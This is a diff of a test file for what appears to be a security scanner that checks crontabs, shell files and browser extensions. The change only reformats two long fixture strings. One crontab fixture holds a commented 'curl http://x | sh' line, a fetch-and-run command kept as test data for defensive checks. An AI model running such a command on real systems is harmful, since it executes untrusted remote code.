@@ -47,7 +47,10 @@ ORDINARY = [
     ),
     (
         "etc/crontab",
-        "# a comment: curl http://x | sh\nSHELL=/bin/sh\n17 * * * * root cd / && run-parts /etc/cron.hourly\n",
+        (
+            "# a comment: curl http://x | sh\nSHELL=/bin/sh\n"
+            "17 * * * * root cd / && run-parts /etc/cron.hourly\n"
+        ),
     ),
     (
         "home/nam/.bashrc",
@@ -164,7 +167,10 @@ def test_extensions_from_outside_the_store_are_found(context: Context) -> None:
     write(
         context,
         f"{profile}/Preferences",
-        '{"extensions": {"settings": {"a": {"location": 4, "path": "/x", "manifest": {"name": "Odd"}}, "b": {"location": 1}, "c": 7}}}',
+        (
+            '{"extensions": {"settings": {"a": {"location": 4, "path": "/x", "manifest": {"name": "Odd"}}, '
+            '"b": {"location": 1}, "c": 7}}}'
+        ),
     )
     check_browsers(context)
     assert [finding.values["name"] for finding in context.findings] == ["Odd"]
